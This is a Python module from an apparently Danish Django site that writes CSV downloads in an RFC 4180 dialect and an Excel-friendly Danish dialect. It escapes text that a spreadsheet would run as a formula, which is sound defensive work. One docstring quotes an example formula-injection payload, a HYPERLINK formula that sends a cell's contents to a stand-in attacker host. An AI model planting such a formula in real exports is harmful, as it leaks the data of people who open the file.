"""Every CSV file the site serves, in one of two dialects, written by one writer.

``rfc4180`` (the default) is for programs: RFC 4180 with CRLF, UTF-8 without a BOM, `,` between fields, `.` in
numbers and ASCII column names that do not change with the reader's language. ``excel-da`` is for a Danish
spreadsheet opened with a double click: `;` between fields, `,` in numbers, a UTF-8 BOM (without it Excel reads
"Vækstplan" as "VÃ¦kstplan") and the column headings the reader sees on the page.
"""

import csv
import io
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from itertools import chain, islice

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.encoding import force_str
from django.utils.translation import gettext as _

BOM = "\ufeff"
CONTENT_TYPE = "text/csv; charset=utf-8"


@dataclass(frozen=True)
class Dialect:
    name: str
    delimiter: str
    decimal_point: str
    bom: bool
    # Headings for people (the page's, translated) rather than the stable ASCII names programs key on.
    readers_headings: bool


RFC4180 = Dialect("rfc4180", ",", ".", bom=False, readers_headings=False)
EXCEL_DA = Dialect("excel-da", ";", ",", bom=True, readers_headings=True)
DIALECTS = {dialect.name: dialect for dialect in (RFC4180, EXCEL_DA)}
PARAMETER = "dialect"


class UnknownDialect(ValueError):
    pass


def dialect_of(query) -> Dialect:
    """The dialect a request's ``?dialect=`` names, RFC 4180 when it names none; UnknownDialect with a message for
    the reader otherwise."""
    names = query.getlist(PARAMETER)
    if not names:
        return RFC4180
    if len(names) == 1 and names[0] in DIALECTS:
        return DIALECTS[names[0]]
    raise UnknownDialect(
        _("CSV comes in the dialects %(dialects)s; leave out ?dialect= for the first.")
        % {"dialects": ", ".join(DIALECTS)}
    )


# A value the tables print as a number (an amount, "-0,3 %"): a spreadsheet reads it as one, never as a formula.
NUMBER = re.compile(r"^[-+]?\d[\d.,\s]*%?$")


# Text that a spreadsheet would read as a formula or a command if it came first in a cell (the workbooks too).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Where a spreadsheet may start a cell in a text: at its start, and after a semicolon or a line break, where
# Danish Excel (which splits rows at semicolons) may start one whatever the quoting.
CELL_START = re.compile("(^|[;\r\n])(?=[" + re.escape("".join(FORMULA_TRIGGERS)) + "])")


def spreadsheet_text(value) -> str:
    """A value for a CSV file that people open in a spreadsheet. Text that Excel would run as a formula (a title
    such as '=HYPERLINK("http://evil.example/?leak="&A1)') gets an apostrophe in front, as the workbooks' text
    does, at its start and wherever a cell could start inside it. Numbers, negative ones included, stay as they
    are."""
    text = value if type(value) is str else "" if value is None else force_str(value)
    if (not text.startswith(FORMULA_TRIGGERS) and ";" not in text and "\n" not in text and "\r" not in text) or (
        NUMBER.match(text)
    ):
        return text
    return CELL_START.sub(r"\1'", text)


def none_could_start_a_cell(texts: str) -> bool:
    """Whether spreadsheet_text leaves each of the texts joined by "\0" as it is: none starts with a formula's
    first character or holds a place where a cell could start. One test of many texts: a false alarm (a "\0" in a
    text) only sends them through spreadsheet_text one by one."""
    return not (
        texts.startswith(FORMULA_TRIGGERS)
        or ";" in texts
        or "\n" in texts
        or "\r" in texts
        # A character alone is found at memchr's speed; two of them are searched for only where it occurs.
        or any(trigger in texts and "\0" + trigger in texts for trigger in FORMULA_TRIGGERS)
    )


class _Echo:
    """A file for csv.writer that hands each line back instead of storing it."""

    def write(self, line: str) -> str:
        return line


class CsvWriter:
    """Rows to lines of text in a dialect. Numbers (int, Decimal) are written alike in every row, in the dialect's
    notation and without grouping, so a column holds one number format; None is an empty field; text is as given,
    or through ``text`` (the page downloads escape what a spreadsheet would run as a formula)."""

    def __init__(self, dialect: Dialect, quote_all: bool = False, text=str):
        self.dialect = dialect
        self.text = text
        self._writer = csv.writer(
            _Echo(),
            delimiter=dialect.delimiter,
            lineterminator="\r\n",
            quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL,
        )

    def field(self, value) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        if isinstance(value, int):
            return str(value)
        if isinstance(value, Decimal):
            return format(value, "f").replace(".", self.dialect.decimal_point)
        return self.text(value)

    def lines(self, header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
        writerow, text, field = self._writer.writerow, self.text, self.field
        yield (BOM if self.dialect.bom else "") + writerow([text(name) for name in header])
        for row in rows:
            # Text, most fields, without a call more.
            yield writerow([text(value) if type(value) is str else field(value) for value in row])

    def text_lines(self, header: list[str], rows: Iterable[Iterable[str]], chunk: int = 1000) -> Iterator[str]:
        """As ``lines``, for rows of text alone (no number, no None), as a search of a hundred thousand rows gives
        them. Each chunk of rows whose texts ``text`` leaves as they are (none_could_start_a_cell, for
        spreadsheet_text) is written by the csv module in one call, which writes them as fast as it can: a call of
        Python per field cost more than writing the line."""
        assert self.text in (str, spreadsheet_text)
        buffer = io.StringIO()
        writer = csv.writer(buffer, dialect=self._writer.dialect)
        yield next(self.lines(header, ()))
        rows = iter(rows)
        while part := list(islice(rows, chunk)):
            if none_could_start_a_cell("\0".join(chain.from_iterable(part))):
                writer.writerows(part)
                yield buffer.getvalue()
                buffer.seek(0)
                buffer.truncate()
            else:
                yield from islice(self.lines(header, part), 1, None)


def csv_response(lines: Iterable[str], filename: str, disposition: str = "attachment", streaming: bool = False):
    """The lines as a download; ``streaming`` for files too large to hold whole."""
    if streaming:
        response = StreamingHttpResponse(lines, content_type=CONTENT_TYPE)
    else:
        response = HttpResponse("".join(lines), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = f'{disposition}; filename="{filename}.csv"'
    return response
